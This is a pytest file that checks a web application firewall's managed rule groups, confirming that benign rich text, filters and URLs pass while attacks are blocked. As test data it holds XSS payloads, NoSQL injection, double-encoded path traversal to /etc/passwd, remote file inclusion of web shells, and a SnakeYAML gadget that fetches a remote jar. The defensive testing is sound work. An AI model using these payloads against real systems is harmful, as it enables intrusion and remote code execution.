"""The managed groups after the first held-out set's findings: what they now let through, and the
attacks next to it that they still stop (each case fails with the rules as they were, or guards the
other side of the change)."""

from __future__ import annotations

import json
from typing import Any

import pytest
from test_waf import exchange, run

from addons.waf import Waf, WebAclPolicy
from addons.waf.managed import all_groups_policy

BROWSER = ("user-agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/124.0 Safari/537.36")


@pytest.fixture(scope="module")
def waf() -> Waf:
    return Waf(
        WebAclPolicy.model_validate({"kind": "WebAcl", "rules": all_groups_policy()}), "waf.yaml:1", enforced=True
    )


def verdict(waf: Waf, **kw: Any) -> str | None:
    """The terminating rule, or None when the request passes."""
    headers = kw.pop("headers", [("host", "api.example.com"), BROWSER])
    decision, _ = run(waf, exchange(headers=headers, **kw))
    return None if decision is None else decision.rule


def json_post(field: str, value: str) -> dict[str, Any]:
    body = json.dumps({"title": "Order 4411", field: value}).encode()
    headers = [("host", "api.example.com"), BROWSER, ("content-type", "application/json")]
    return {"method": "POST", "path": "/api/v1/items", "headers": headers, "body": body}


@pytest.mark.parametrize(
    "query",
    [
        'where={"score":{"$gte":1000}}',  # Parse Server's documented filter syntax
        'filter={"price":{"$lt":20},"tags":{"$in":["a","b"]}}',
    ],
)
def test_filter_apis_may_compare_with_real_values(waf, query):
    assert verdict(waf, path="/parse/classes/GameScore?" + query) is None


@pytest.mark.parametrize(
    "query",
    [
        'filter={"password":{"$ne":null}}',
        'filter={"user":"admin","password":{"$gt":""}}',
        'q={"$where":"sleep(5000)"}',
        'q={"name":{"$regex":".*"}}',
        'q={"$or":[{},{"a":"a"}]}',
    ],
)
def test_operator_injection_in_a_query_argument_is_still_stopped(waf, query):
    assert verdict(waf, path="/api/v1/users?" + query) is not None


@pytest.mark.parametrize(
    "html",
    [
        '<p style="color: rgb(34, 34, 34); font-family: Arial, sans-serif;">Styled</p>',
        '<span style="width: calc(100% - 2em)">x</span>',
        '<iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/aqz" allowfullscreen></iframe>',
    ],
)
def test_rich_text_with_css_functions_and_https_embeds_passes(waf, html):
    assert verdict(waf, **json_post("content_html", html)) is None


@pytest.mark.parametrize(
    "html",
    [
        "<p style=\"background: url('javascript:alert(1)')\">x</p>",
        '<div style="width: expression(alert(1))">x</div>',
        '<iframe src="javascript:alert(1)"></iframe>',
        '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
        '<iframe src="https://video.example/embed" onload="alert(1)"></iframe>',
        '<iframe src="//evil.example/x"></iframe>',
    ],
)
def test_script_in_styles_and_iframes_is_still_stopped(waf, html):
    assert verdict(waf, **json_post("content_html", html)) is not None


def test_an_atom_entry_passes_and_a_title_breakout_does_not(waf):
    atom = (
        b'<?xml version="1.0"?>\n<entry xmlns="http://www.w3.org/2005/Atom"><title type="html">News</title>\n'
        b"<content>Hi</content></entry>"
    )
    headers = [("host", "h"), BROWSER, ("content-type", "application/atom+xml")]
    assert verdict(waf, method="POST", headers=headers, body=atom) is None
    assert verdict(waf, **json_post("name", "</title><script>alert(1)</script>")) is not None
    assert verdict(waf, **json_post("name", '</textarea><img src=x onerror="alert(1)">')) is not None


def test_an_sftp_endpoint_passes_unless_its_host_is_internal(waf):
    assert verdict(waf, **json_post("sftp_endpoint", "sftp://files.partner.example.com:22/inbound/")) is None
    assert verdict(waf, **json_post("sftp_endpoint", "sftp://127.0.0.1:22/")) is not None
    assert verdict(waf, **json_post("webhook", "gopher://files.partner.example.com:70/_x")) is not None


def test_a_url_encoded_url_may_carry_its_own_encoded_slash(waf):
    nested = "/login?return_to=https%3A%2F%2Fapp.example.com%2Fdash%3Ftz%3DEurope%252FBerlin"
    assert verdict(waf, path=nested) is None
    assert verdict(waf, path="/static/..%252f..%252fetc/passwd") is not None
    assert verdict(waf, path="/static/%252e%252e/secret") is not None


@pytest.mark.parametrize(
    "query",
    [
        "page=http%3A%2F%2F198.51.100.7%2Fshell.txt%3F",
        "lang=http%3A%2F%2F203.0.113.77%2Fc99.txt",
        "inc=https%3A%2F%2Fcdn.example.net%2Fpayload%3F",
    ],
)
def test_remote_file_inclusion(waf, query):
    assert verdict(waf, path="/api/v1/search?" + query) == "waf/core-017"


def test_urls_in_arguments_still_pass(waf):
    assert verdict(waf, path="/api/v1/search?next=https%3A%2F%2Fapp.example.com%2Fitems%3Fpage%3D2") is None
    assert verdict(waf, path="/api/v1/hooks?url=https%3A%2F%2F203.0.113.9%3A8443%2Fhooks%2Forders") is None


def test_an_empty_user_agent_is_stopped_and_a_missing_one_counted(waf):
    assert verdict(waf, headers=[("host", "h"), ("user-agent", "")]) == "waf/core-018"
    assert verdict(waf, headers=[("host", "h")]) is None


def test_a_snakeyaml_gadget_is_stopped(waf):
    body = (
        b'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x.example/a.jar"]]]]'
    )
    headers = [("host", "h"), BROWSER, ("content-type", "application/x-yaml")]
    assert verdict(waf, method="POST", headers=headers, body=body) == "waf/known_bad_inputs-003"
    tags = b"tags: !!set {a, b}\nwhen: !!timestamp 2026-11-25\n"  # standard YAML tags are data
    assert verdict(waf, method="POST", headers=headers, body=tags) is None


def test_a_where_breakout_returning_an_expression_is_stopped(waf):
    assert verdict(waf, **json_post("filter", "'; return db.users.find(); var x='")) is not None
    assert verdict(waf, **json_post("note", "It's done; return the form by Friday.")) is None


def test_a_path_spelled_with_wildcards_is_stopped(waf):
    assert (
        verdict(waf, path="/api/v1/search?host=%3B%2F%3F%3F%3F%2F%3F%3Ft%20%2F%3F%3F%3F%2Fp%3F%3Fs%3F%3F") is not None
    )
    assert verdict(waf, path="/api/v1/search?q=what%3F%20where%3F%20when%3F") is None


def test_a_font_shorthand_with_a_slash_is_plain_css(waf):
    html = '<p style="font: 12px/1.5 Arial, sans-serif; color: hsl(0, 0%, 20%)">Body text</p>'
    assert verdict(waf, **json_post("content_html", html)) is None
    assert verdict(waf, **json_post("content_html", '<p style="x: exp/**/ression(alert(1))">x</p>')) is not None


@pytest.mark.parametrize(
    "src",
    ["//static.example.net/embed", "http://video.example/embed", "java\tscript:alert(1)", "JaVaScRiPt:alert(1)", "x"],
)
def test_an_iframe_whose_source_is_not_https_is_stopped(waf, src):
    assert verdict(waf, **json_post("content_html", f'<iframe src="{src}"></iframe>')) is not None


@pytest.mark.parametrize(
    ("src", "stopped"),
    [
        ("https://www.youtube-nocookie.com/embed/x", False),
        ("//static.example.net/embed", True),
        ("java\tscript:alert(1)", True),
        ("http://video.example/embed", True),
    ],
)
def test_xss_013_alone_judges_an_iframe_by_its_source(src, stopped):
    only_013 = [{"id": "m-xss", "priority": 1, "managed_group": "xss",
                 "disabled_rules": ["waf/xss-00*", "waf/xss-01[!3]"]}]  # fmt: skip
    waf = Waf(WebAclPolicy.model_validate({"kind": "WebAcl", "rules": only_013}), "waf.yaml:1", enforced=True)
    assert [r.id for r in waf.acl.rules] == ["waf/xss-013"]
    assert (verdict(waf, **json_post("content_html", f'<iframe src="{src}"></iframe>')) == "waf/xss-013") is stopped
